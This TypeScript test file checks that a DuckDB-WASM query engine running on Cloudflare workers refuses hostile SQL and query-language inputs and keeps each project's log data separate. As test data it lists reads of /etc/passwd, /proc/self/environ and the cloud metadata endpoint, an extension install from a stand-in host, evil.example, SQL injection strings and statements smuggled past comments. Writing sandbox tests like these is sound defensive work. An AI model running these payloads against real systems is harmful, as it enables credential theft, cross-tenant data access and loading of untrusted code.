import { env } from "cloudflare:test";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { TableBuilder } from "../../core/columns";
import { appendRow, BASE_US } from "../../core/parquet/fixtures";
import { initParquetWasm } from "../../core/parquet/wasm-worker";
import { encodeParquet } from "../../core/parquet/write";
import { QueryError, type VarValue } from "../language/index";
import { getDuckDB, type DuckDBInstance } from "./duckdb-worker";
import { createEngine, EngineError, type EngineErrorCode } from "./engine";
import { planQuery } from "./plan";
import { RangeFile } from "./range-file";
import { fileName } from "./relation";
import { r2Source, type ByteSource } from "./source";

/**
 * Hostile queries against the edge engine, inside workerd. Part A sends raw SQL straight
 * to `engine.query`: what the sandbox (sandbox.ts, runtime.ts) must hold on its own, with
 * a second part that skips the statement check to test the locked settings and the file
 * system alone. Part B goes through the query language, where literals are parameters
 * and the time range is part of the scan.
 *
 * After every case the same DuckDB instance must still answer correctly and hold nothing
 * a later query (maybe another project's) could see: no table, no database, no file.
 */
const DAY = 86_400_000_000;
const RANGE = { fromUs: BASE_US, toUs: BASE_US + 3_600_000_000 };
const OWN_KEY = "v1/p1/logs/date=2025-03-04/hour=12/sandbox.parquet";
const OTHER_KEY = "v1/p2/logs/date=2025-03-04/hour=12/sandbox.parquet";

/** Rows of project p1, all in one row group: only the SQL's WHERE can leave some out. */
const OWN_ROWS = [
  { body: "in range: first", at: RANGE.fromUs }, // the range includes its start…
  { body: "x' OR 1=1 --", at: BASE_US + 60_000_000 },
  { body: "'; DROP TABLE logs; --", at: BASE_US + 120_000_000 },
  { body: "in range: last", at: RANGE.toUs - 1 },
  { body: "out of range: 1 µs early", at: RANGE.fromUs - 1 },
  { body: "out of range: at the end", at: RANGE.toUs }, // …and excludes its end
  { body: "out of range: ten days early", at: BASE_US - 10 * DAY },
  { body: "out of range: a year later", at: BASE_US + 365 * DAY },
];
const IN_RANGE = OWN_ROWS.filter((r) => r.at >= RANGE.fromUs && r.at < RANGE.toUs).map((r) => r.body);
/** Project p2's rows, inside the time range, in R2 but never registered for p1's queries. */
const OTHER_ROWS = [1, 2, 3].map((i) => ({ body: `other project secret ${i}`, at: BASE_US + i * 1_000_000 }));

function logsFile(rows: { body: string; at: number }[], service: string): Uint8Array {
  const table = new TableBuilder("logs");
  for (const r of rows) appendRow(table, { timestamp: r.at, body: r.body, severity_text: "INFO", service_name: service });
  return encodeParquet(table);
}

let ownBytes: Uint8Array;
const engine = createEngine();
const own = (): ByteSource[] => [r2Source(env.BUCKET, OWN_KEY, fileName(0))];
const other = (): ByteSource[] => [r2Source(env.BUCKET, OTHER_KEY, fileName(0))];

/** The rejection of `p`, or null if it resolved (`.rejects` left unhandled rejections in workerd). */
const failure = (p: Promise<unknown>): Promise<unknown> => p.then(() => null, (e: unknown) => e);

function raw(sql: string, params: unknown[] = [], files = own()) {
  return engine.query(sql, params, { files, columns: "all" });
}

async function refusedPaths(): Promise<string[]> {
  return [...(await getDuckDB()).runtime.refused];
}

/** Runs raw SQL expecting an EngineError with `code` and `message`; returns it. */
async function expectRefused(sql: string, code: EngineErrorCode, message: RegExp, params: unknown[] = []): Promise<EngineError> {
  const e = await failure(raw(sql, params));
  expect(e).toBeInstanceOf(EngineError);
  expect((e as EngineError).code).toBe(code);
  expect((e as EngineError).message).toMatch(message);
  return e as EngineError;
}

beforeAll(async () => {
  initParquetWasm();
  ownBytes = logsFile(OWN_ROWS, "svc-p1");
  await env.BUCKET.put(OWN_KEY, ownBytes);
  await env.BUCKET.put(OTHER_KEY, logsFile(OTHER_ROWS, "svc-p2"));
});

let instance: DuckDBInstance;
beforeEach(async () => {
  instance = await getDuckDB();
});

afterEach(async () => {
  // The same instance (no trap retired it) still answers from the right file…
  expect((await raw("SELECT count(*) FROM read_parquet('f0.parquet')")).rows).toEqual([[OWN_ROWS.length]]);
  expect(await getDuckDB()).toBe(instance);
  // …and nothing is left for the next query: no table, no attached database, no file.
  const state = await engine.query(
    "SELECT (SELECT count(*) FROM duckdb_tables()), (SELECT list(database_name ORDER BY database_name) FROM duckdb_databases()), (SELECT count(*) FROM glob('*'))",
  );
  expect(state.rows).toEqual([[0, ["memory", "system", "temp"], 0]]);
});

describe("A. raw SQL: files, URLs and other projects' data", () => {
  // DuckDB-WASM's glob only knows the files registered for the running query, so none of
  // these paths even reaches the runtime: "No files found" (or a missing function).
  it.each([
    ["read_csv of /etc/passwd", "SELECT * FROM read_csv('/etc/passwd')", /No files found that match the pattern "\/etc\/passwd"/],
    ["read_csv_auto of a relative path", "SELECT * FROM read_csv_auto('../../.dev.vars')", /No files found/],
    ["read_csv of /proc/self/environ", "SELECT * FROM read_csv('/proc/self/environ')", /No files found/],
    ["a file:// URL", "SELECT * FROM read_csv('file:///etc/passwd')", /No files found/],
    ["read_json (the json extension is neither linked nor loadable)", "SELECT * FROM read_json('/etc/passwd')", /exists in the json extension/],
    ["read_json_auto", "SELECT * FROM read_json_auto('/etc/passwd')", /exists in the json extension/],
    ["read_text (not in DuckDB 0.9.1)", "SELECT * FROM read_text('/etc/passwd')", /read_text does not exist/],
    ["read_blob (not in DuckDB 0.9.1)", "SELECT * FROM read_blob('/etc/passwd')", /read_blob does not exist/],
    ["an https URL (httpfs is not loaded and cannot be)", "SELECT * FROM read_parquet('https://example.com/x.parquet')", /requires the extension httpfs/],
    ["an s3 URL", "SELECT * FROM read_parquet('s3://bucket/v1/p2/x.parquet')", /requires the extension httpfs/],
    ["the cloud metadata endpoint", "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')", /requires the extension httpfs/],
    ["another project's key in R2", `SELECT * FROM read_parquet('${OTHER_KEY}')`, /No files found/],
    ["another project's key as a table name", `SELECT * FROM '${OTHER_KEY}'`, /No files found/],
    ["another project's key next to our own file", `SELECT * FROM read_parquet(['f0.parquet', '${OTHER_KEY}'])`, /No files found/],
    ["a glob over another project's keys", "SELECT count(*) FROM read_parquet('v1/p2/**/*.parquet')", /No files found/],
    ["parquet_metadata of another project's key", `SELECT * FROM parquet_metadata('${OTHER_KEY}')`, /No files found/],
    ["parquet_schema of another project's key", `SELECT * FROM parquet_schema('${OTHER_KEY}')`, /No files found/],
    ["our file as ./f0.parquet", "SELECT * FROM read_parquet('./f0.parquet')", /No files found/],
    ["our file as /f0.parquet", "SELECT * FROM read_parquet('/f0.parquet')", /No files found/],
    ["our file in capitals", "SELECT * FROM read_parquet('F0.PARQUET')", /No files found/],
    ["SQL in a string: query() (not in DuckDB 0.9.1)", "SELECT * FROM query('ATTACH ''x.db'' AS x')", /query does not exist/],
    ["SQL in a string: json_execute_serialized_sql", "SELECT * FROM json_execute_serialized_sql('{}')", /exists in the json extension/],
    ["getenv (not in DuckDB 0.9.1)", "SELECT getenv('HOME')", /getenv does not exist/],
    ["duckdb_secrets() (not in DuckDB 0.9.1)", "SELECT * FROM duckdb_secrets()", /duckdb_secrets does not exist/],
    ["duckdb_extensions() (no home directory; it answers without hanging)", "SELECT * FROM duckdb_extensions()", /Can't find the home directory/],
  ])("refuses %s", async (_name, sql, message) => {
    const before = await refusedPaths();
    const e = await expectRefused(sql, "query_error", message);
    expect(e.message).not.toContain("other project secret");
    expect(await refusedPaths()).toEqual(before);
  });

  it("refuses a path passed as a parameter", async () => {
    await expectRefused("SELECT * FROM read_parquet(?)", "query_error", /No files found that match the pattern "\/etc\/passwd"/, ["/etc/passwd"]);
  });

  it("cannot read another project's object although it is in R2", async () => {
    expect(await env.BUCKET.head(OTHER_KEY)).not.toBeNull();
    const e = await expectRefused(`SELECT body FROM read_parquet('${OTHER_KEY}')`, "query_error", /No files found/);
    expect(e.message).not.toContain("other project secret");
  });

  it("glob('*') shows only the running query's own file", async () => {
    // Registered names are the engine's (f0.parquet, …), never object keys.
    expect((await raw("SELECT * FROM glob('*')")).rows).toEqual([["f0.parquet"]]);
    expect((await raw("SELECT * FROM glob('**')")).rows).toEqual([["f0.parquet"]]);
    expect((await raw("SELECT * FROM glob('/etc/*')")).rows).toEqual([]);
    expect((await raw("SELECT * FROM glob('v1/**')")).rows).toEqual([]);
    expect((await raw("SELECT * FROM glob('*')", [], [])).rows).toEqual([]);
  });

  it("a wildcard read reaches only the query's own file", async () => {
    const r = await raw("SELECT count(*), count(*) FILTER (WHERE body LIKE 'other project%') FROM read_parquet('*.parquet')");
    expect(r.rows).toEqual([[OWN_ROWS.length, 0]]);
  });

  it("a file registered for an earlier query is gone for the next one", async () => {
    // p2's own query registers p2's object as f0.parquet…
    expect((await raw("SELECT count(*) FROM read_parquet('f0.parquet')", [], other())).rows).toEqual([[OTHER_ROWS.length]]);
    // …and a query given no files cannot read it under that name.
    const e = await failure(engine.query("SELECT body FROM read_parquet('f0.parquet')", [], { files: [] }));
    expect((e as EngineError).code).toBe("query_error");
    expect((e as EngineError).message).toMatch(/No files found/);
  });

  it("the same file name for another project's object reads only that query's bytes", async () => {
    // Every query names its files f0.parquet, …: no metadata or bytes may carry over.
    const p2 = await raw("SELECT body FROM read_parquet('f0.parquet') ORDER BY body", [], other());
    const p1 = await raw("SELECT body FROM read_parquet('f0.parquet') ORDER BY body");
    expect(p2.rows.flat()).toEqual(OTHER_ROWS.map((r) => r.body).sort());
    expect(p1.rows.flat()).toEqual(OWN_ROWS.map((r) => r.body).sort());
  });
});

describe("A. raw SQL: statements, settings and extensions", () => {
  it.each([
    ["COPY … TO a new file", "COPY (SELECT 1) TO 'out.csv'", /only SELECT queries may run \(found "COPY"/],
    ["COPY over the query's own file", "COPY (SELECT * FROM read_parquet('f0.parquet')) TO 'f0.parquet' (FORMAT PARQUET)", /only SELECT/],
    ["EXPORT DATABASE", "EXPORT DATABASE 'dump'", /only SELECT/],
    ["ATTACH a file", "ATTACH 'other.db' AS other", /only SELECT/],
    ["ATTACH :memory:", "ATTACH ':memory:' AS scratch", /only SELECT/],
    ["DETACH", "DETACH memory", /only SELECT/],
    ["INSTALL by name", "INSTALL httpfs", /only SELECT/],
    ["FORCE INSTALL from a URL", "FORCE INSTALL 'https://evil.example/x.duckdb_extension'", /only SELECT/],
    ["LOAD by name", "LOAD httpfs", /only SELECT/],
    ["LOAD by path", "LOAD '/tmp/evil.duckdb_extension'", /only SELECT/],
    ["PRAGMA", "PRAGMA enable_profiling", /only SELECT/],
    ["PRAGMA as a setting", "PRAGMA memory_limit='10GB'", /only SELECT/],
    ["SET memory_limit", "SET memory_limit='10GB'", /only SELECT/],
    ["SET enable_external_access", "SET enable_external_access=true", /only SELECT/],
    ["SET lock_configuration", "SET lock_configuration=false", /only SELECT/],
    ["SET GLOBAL", "SET GLOBAL threads=8", /only SELECT/],
    ["RESET", "RESET memory_limit", /only SELECT/],
    ["CALL", "CALL pragma_version()", /only SELECT/],
    ["CREATE TABLE … AS", "CREATE TABLE stolen AS SELECT * FROM read_parquet('f0.parquet')", /only SELECT/],
    ["CREATE TEMP TABLE", "CREATE TEMP TABLE t (x INTEGER)", /only SELECT/],
    ["CREATE VIEW", "CREATE VIEW v AS SELECT 1", /only SELECT/],
    ["CREATE MACRO", "CREATE MACRO leak(x) AS x", /only SELECT/],
    ["CREATE SECRET", "CREATE SECRET s (TYPE S3, KEY_ID 'k', SECRET 's')", /only SELECT/],
    ["INSERT", "INSERT INTO t VALUES (1)", /only SELECT/],
    ["INSERT behind WITH", "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", /"INSERT" is not allowed/],
    ["a statement in parentheses", "(INSTALL httpfs)", /"INSTALL" is not allowed/],
    ["a setting inside a subquery", "SELECT * FROM (SET memory_limit='10GB')", /"SET" is not allowed/],
    ["mixed case", "(sElEcT 1) UNION ALL (InStAlL httpfs)", /"INSTALL" is not allowed/],
    ["two statements", "SELECT 1; SELECT 2", /only one statement may run/],
    ["mixed case after a semicolon", "sElEcT 1; InStAlL httpfs", /only one statement may run/],
    ["a statement after a line comment", "SELECT 1 -- harmless\n; ATTACH ':memory:' AS m", /only one statement may run/],
    ["a statement after a block comment", "SELECT 1 /* harmless */; DETACH memory", /only one statement may run/],
    ["a statement after 100 KB of blanks", `SELECT 1${" ".repeat(100_000)}; INSTALL httpfs`, /only one statement may run/],
    ["two semicolons", "SELECT 1;;", /only one statement may run/],
    ["only a block comment", "/* SELECT 1 */", /empty query/],
    ["only a line comment", "-- SELECT 1", /empty query/],
    ["DESCRIBE", "DESCRIBE SELECT 1", /only SELECT/],
    ["SHOW", "SHOW TABLES", /only SELECT/],
    ["SUMMARIZE", "SUMMARIZE SELECT 1", /only SELECT/],
    ["EXPLAIN", "EXPLAIN SELECT 1", /only SELECT/],
    ["UPDATE", "UPDATE t SET x = 1", /only SELECT/],
    ["DELETE", "DELETE FROM t", /only SELECT/],
    ["DROP", "DROP TABLE t", /only SELECT/],
    ["ALTER", "ALTER TABLE t ADD COLUMN y INTEGER", /only SELECT/],
    ["TRUNCATE", "TRUNCATE t", /only SELECT/],
    ["VACUUM", "VACUUM", /only SELECT/],
    ["CHECKPOINT", "CHECKPOINT", /only SELECT/],
    ["BEGIN", "BEGIN TRANSACTION", /only SELECT/],
    ["PREPARE", "PREPARE p AS SELECT 1", /only SELECT/],
    ["EXECUTE", "EXECUTE p", /only SELECT/],
    ["USE", "USE memory", /only SELECT/],
  ])("refuses %s", async (_name, sql, message) => {
    const before = await refusedPaths();
    await expectRefused(sql, "forbidden_statement", message);
    // Refused before DuckDB saw it: no file was even asked for.
    expect(await refusedPaths()).toEqual(before);
  });

  it("runs only the query when a statement hides in a comment", async () => {
    // The comment's text never runs: afterEach checks that no database was attached.
    expect((await raw("SELECT 42 /* ; ATTACH 'x.db' AS x */")).rows).toEqual([[42]]);
    expect((await raw("SELECT 42 -- ; INSTALL httpfs")).rows).toEqual([[42]]);
  });

  it("lets settings be read, which shows them locked, harmless and unchanged", async () => {
    await expectRefused("SET memory_limit='10GB'", "forbidden_statement", /only SELECT/);
    const r = await raw("SELECT current_setting('memory_limit'), current_setting('lock_configuration'), current_setting('threads')");
    const [[limit, locked, threads]] = r.rows as [[string, boolean, number]];
    // The limit set at open (in KB, which DuckDB reads as 1000 bytes), shown to 0.1 MB.
    expect(limit).toMatch(/^\d+\.\dMB$/);
    expect(Math.abs(parseFloat(limit) * 1e6 - Math.floor(instance.settings.duckdbMemoryLimitBytes / 1024) * 1000)).toBeLessThan(1e5);
    expect([locked, threads]).toEqual([true, 1]);
    const settings = new Map((await raw("SELECT name, value FROM duckdb_settings()")).rows as [string, string][]);
    expect(settings.get("lock_configuration")).toBe("true");
    expect(settings.get("autoinstall_known_extensions")).toBe("false");
    expect(settings.get("autoload_known_extensions")).toBe("false");
    expect(settings.get("temp_directory")).toBe("");
    // Nothing secret-looking holds a value.
    const secretish = [...settings].filter(([name]) => /password|secret|token|key|user/i.test(name));
    expect(secretish.length).toBeGreaterThan(0);
    for (const [, value] of secretish) expect(["NULL", ""]).toContain(value);
  });
});

describe("A. raw SQL: size and depth (the wasm stack)", () => {
  it("refuses SQL text over the cap before DuckDB sees it", async () => {
    await expectRefused(`SELECT 1${" ".repeat(1_000_000)}`, "forbidden_statement", /too large \(SQL text over 262144 bytes\)/);
    // Multi-byte characters count as UTF-8 bytes: 100 000 of them are 300 000 bytes.
    await expectRefused(`SELECT '${"€".repeat(100_000)}'`, "forbidden_statement", /too large \(SQL text/);
  });

  it("refuses parameters over the cap", async () => {
    await expectRefused("SELECT length(?)", "forbidden_statement", /too large \(parameters over 262144 bytes\)/, ["x".repeat(300_000)]);
  });

  it("runs SQL text and parameters just under the caps", async () => {
    expect((await raw(`SELECT 7${" ".repeat(250_000)}`)).rows).toEqual([[7]]);
    expect((await raw("SELECT length(?)", ["x".repeat(250_000)])).rows).toEqual([[250_000]]);
  });

  it.each([
    ["a 200-term sum", `SELECT ${"1+".repeat(200)}1`, /Maximum recursion depth exceeded/],
    ["a 2000-term sum", `SELECT ${"1+".repeat(2000)}1`, /Max expression depth limit of 1000 exceeded/],
    ["5000 nested parentheses", `SELECT ${"(".repeat(5000)}1${")".repeat(5000)}`, /memory exhausted/],
    ["1000 nested function calls", `SELECT ${"abs(".repeat(1000)}1${")".repeat(1000)}`, /memory exhausted/],
  ])("refuses %s cleanly, without corrupting the instance", async (_name, sql, message) => {
    // With the stock 64 KiB stack the 200-term sum overflowed silently and every later
    // query on the instance failed; afterEach checks the same instance still answers.
    await expectRefused(sql, "query_error", message);
  });

  it("runs a 100-term sum over a column", async () => {
    const r = await raw(`SELECT sum(${"length(body)+".repeat(99)}length(body)) FROM read_parquet('f0.parquet')`);
    expect(r.rows).toEqual([[100 * OWN_ROWS.reduce((n, row) => n + row.body.length, 0)]]);
  });
});

describe("A. below the statement check: locked settings and the file system alone", () => {
  /** Runs `sql` on the bindings with our file registered as runOnce does, skipping assertReadOnlyQuery. */
  async function direct(sql: string): Promise<Error | null> {
    const db = await getDuckDB();
    const file = new RangeFile(fileName(0), ownBytes.length);
    file.add(0, ownBytes);
    db.runtime.allow(file);
    db.bindings.registerFileHandle(file.name, null, db.lib.DuckDBDataProtocol.BROWSER_FILEREADER, false);
    try {
      db.bindings.runQuery(db.conn, sql);
      return null;
    } catch (e) {
      return e as Error;
    } finally {
      db.bindings.dropFile(file.name);
      db.runtime.disallowAll();
    }
  }

  // INSTALL and LOAD are left out here: without the statement check they may block
  // workerd on a synchronous XHR. The statement check refuses them (above).
  it.each([
    ["COPY … TO a new file", "COPY (SELECT 42) TO 'out.csv'", "out.csv", /HTML FileReaders do not support writing|file access is not allowed/],
    ["COPY over the registered file", "COPY (SELECT 42 AS x) TO 'f0.parquet' (FORMAT PARQUET)", "f0.parquet", /HTML FileReaders do not support writing|read-only/],
    ["ATTACH a database file", "ATTACH 'other.db' AS other", "other.db", /file access is not allowed: other\.db/],
  ])("the file system refuses %s", async (_name, sql, path, message) => {
    const before = await refusedPaths();
    const e = await direct(sql);
    expect(e?.message).toMatch(message);
    expect((await refusedPaths()).slice(before.length)).toEqual([path]);
    // afterEach: f0.parquet still reads whole, and no in-memory file was left behind.
  });

  it("the file system refuses to create a directory (EXPORT DATABASE)", async () => {
    expect((await direct("EXPORT DATABASE 'dump'"))?.message).toMatch(/creating directories is not allowed/);
  });

  it.each(["SET memory_limit='10GB'", "SET lock_configuration=false", "SET enable_external_access=false", "SET autoload_known_extensions=true", "SET temp_directory='/tmp'", "SET GLOBAL threads=8", "RESET memory_limit"])(
    "the locked configuration refuses %s",
    async (sql) => {
      expect((await direct(sql))?.message).toMatch(/the configuration has been locked/);
    },
  );
});

describe("B. through the query language", () => {
  /** Plans and runs `text` over p1's file; checks what must hold for every query. */
  async function run(text: string, vars: Record<string, VarValue> = {}, files = own()) {
    const q = planQuery(text, { timeRange: RANGE, vars });
    const before = await refusedPaths();
    const r = await engine.run(q.plan, { files, columns: q.columns, ...RANGE });
    // Compiled SQL names only its own files…
    expect(await refusedPaths()).toEqual(before);
    // …and nothing out of range or from another project ever comes back.
    const cells = JSON.stringify(r.rows);
    expect(cells).not.toContain("out of range");
    expect(cells).not.toContain("other project");
    const ts = r.columns.findIndex((c) => c.name === "timestamp" && c.type === "TIMESTAMP");
    for (const row of ts < 0 ? [] : r.rows) {
      const us = isoToUs(row[ts] as string);
      expect(us >= RANGE.fromUs && us < RANGE.toUs).toBe(true);
    }
    return r;
  }

  it.each<[string, string, Record<string, VarValue>, string[]]>([
    ["a quote in a string literal", `logs | where body == "x' OR 1=1 --" | project body`, {}, ["x' OR 1=1 --"]],
    ["a statement in a variable", "logs | where body contains $v | project body", { v: "'; DROP TABLE logs; --" }, ["'; DROP TABLE logs; --"]],
    ["a quote trick in a variable", "logs | where body == $v | project body", { v: "x' OR '1'='1" }, []],
    ["a list variable", "logs | where service.name in ($names) | project body", { names: ["a'); COPY logs TO 'x", "svc-p1"] }, IN_RANGE],
    ["ago() ten years back", "logs | where timestamp > ago(3650d) | project body", {}, IN_RANGE],
    ["`or` with a condition that is always true", "logs | where true or timestamp < now() | project body", {}, IN_RANGE],
    ["a time condition before the epoch or true", `logs | where timestamp < datetime("1970-01-01") or true | project body`, {}, IN_RANGE],
    ["a filter for just before the range", "logs | where timestamp < datetime(2025-03-04T12:00:00Z) | project body", {}, []],
    ["a filter for the range's end and later", "logs | where timestamp >= datetime(2025-03-04T13:00:00Z) | project body", {}, []],
    ["timestamp redefined after the scan", "logs | extend timestamp = now() | project body", {}, IN_RANGE],
    ["a search for another project's text", `search "other project secret"`, {}, []],
    ["a map key that closes the quote", `logs | where attributes['x\\'] FROM read_csv(\\'/etc/passwd\\') --'] == "1" | project body`, {}, []],
    ["statements in a search", `search "'; INSTALL httpfs; LOAD httpfs; --" | project body`, {}, []],
  ])("%s sees only its own rows in the range", async (_name, text, vars, bodies) => {
    const r = await run(text, vars);
    expect(r.rows.map((row) => row[0]).sort()).toEqual([...bodies].sort());
  });

  it("the other project's rows are in R2, in the range, and still unseen", async () => {
    expect((await run("logs | count", {}, other())).rows).toEqual([[OTHER_ROWS.length]]);
    expect((await run("logs | count")).rows).toEqual([[IN_RANGE.length]]);
  });

  it("summaries over the whole table cover only the range", async () => {
    const r = await run("logs | summarize n = count(), first = min(timestamp), last = max(timestamp)");
    expect(r.rows).toEqual([[IN_RANGE.length, usToIso(RANGE.fromUs), usToIso(RANGE.toUs - 1)]]);
    expect((await run("logs | project-away timestamp | count")).rows).toEqual([[IN_RANGE.length]]);
    expect((await run("logs | summarize n = count() by bin(timestamp, 3650d) | project n")).rows).toEqual([[IN_RANGE.length]]);
  });

  it("sorting and taking return the range's rows in order", async () => {
    const r = await run("logs | sort by timestamp asc | take 100 | project timestamp, body");
    expect(r.rows.map((row) => row[1])).toEqual(OWN_ROWS.filter((x) => IN_RANGE.includes(x.body)).sort((a, b) => a.at - b.at).map((x) => x.body));
  });

  it("a fan-out over batches stays in the range and drops its scratch table", async () => {
    const q = planQuery("logs | where true or timestamp < now() | summarize n = count()", { timeRange: RANGE });
    const files = [0, 1, 2].map((i) => r2Source(env.BUCKET, OWN_KEY, fileName(i)));
    const r = await engine.run(q.plan, { files, columns: q.columns, ...RANGE, prefetchBudgetBytes: ownBytes.length + 1 });
    expect(r.stats.batches).toBeGreaterThan(1);
    expect(r.rows).toEqual([[3 * IN_RANGE.length]]);
    // afterEach: duckdb_tables() is empty again.
  });

  it("a long search phrase runs; one whose parameters pass the cap is refused cleanly", async () => {
    // `search` repeats its phrase once per searched column, all as parameters.
    expect((await run(`search "${"x".repeat(3000)}"`)).rows).toEqual([]);
    const e = await failure(run(`search "${"x".repeat(8000)}"`));
    expect(e).toBeInstanceOf(EngineError);
    expect((e as EngineError).code).toBe("forbidden_statement");
    expect((e as EngineError).message).toMatch(/too large \(parameters/);
  });

  it("a long chain of additions is refused by DuckDB, not by a broken instance", async () => {
    const e = await failure(run(`logs | extend x = ${"1+".repeat(300)}1 | count`));
    expect(e).toBeInstanceOf(EngineError);
    expect((e as EngineError).code).toBe("query_error");
    expect((e as EngineError).message).toMatch(/recursion depth|expression depth/);
  });

  const at = (query: string, text: string): [number, number] => [query.indexOf(text), query.indexOf(text) + text.length];
  it.each<[string, string, "syntax" | "semantic", string, Record<string, VarValue>?]>([
    ["a field name with a quote", `logs | where ["body\\" OR 1=1 --"] == "x"`, "semantic", `["body\\" OR 1=1 --"]`],
    ["a column alias with SQL in it", `logs | extend ["x\\" FROM read_csv('/etc/passwd') --"] = 1`, "semantic", `["x\\" FROM read_csv('/etc/passwd') --"]`],
    ["backticks", "logs | where `body` == \"x\"", "syntax", "`"],
    ["a second statement", `logs | where body == "x"; DROP TABLE logs`, "syntax", ";"],
    ["an SQL line comment", `logs | where body == "x" -- or 1 == 1`, "syntax", "1"],
    ["a table function as the query", "read_csv('/etc/passwd')", "semantic", "read_csv"],
    ["the project column", `logs | where project_id != "p2"`, "semantic", "project_id"],
    ["a statement in a timespan variable", "logs | where timestamp > ago($d)", "semantic", "$d", { d: "1h; DROP TABLE logs" }],
    ["current_setting()", "logs | extend s = current_setting('memory_limit')", "semantic", "current_setting"],
    ["getenv()", `logs | where getenv("HOME") == "x"`, "semantic", "getenv"],
    ["a union with another source", "logs | take 1 | union spans", "syntax", "union"],
  ])("rejects %s with a QueryError at the offending text", (_name, query, code, text, vars = {}) => {
    const e = (() => {
      try {
        planQuery(query, { timeRange: RANGE, vars });
        return null;
      } catch (err) {
        return err;
      }
    })();
    expect(e).toBeInstanceOf(QueryError);
    expect((e as QueryError).code).toBe(code);
    expect([(e as QueryError).from, (e as QueryError).to]).toEqual(at(query, text));
  });
});

function isoToUs(iso: string): number {
  // "2025-03-04T12:00:00.000001Z": Date.parse takes milliseconds only.
  return Date.parse(`${iso.slice(0, 23)}Z`) * 1000 + Number(iso.slice(23, 26));
}

function usToIso(us: number): string {
  return `${new Date(Math.floor(us / 1000)).toISOString().slice(0, 23)}${String(us % 1000).padStart(3, "0")}Z`;
}
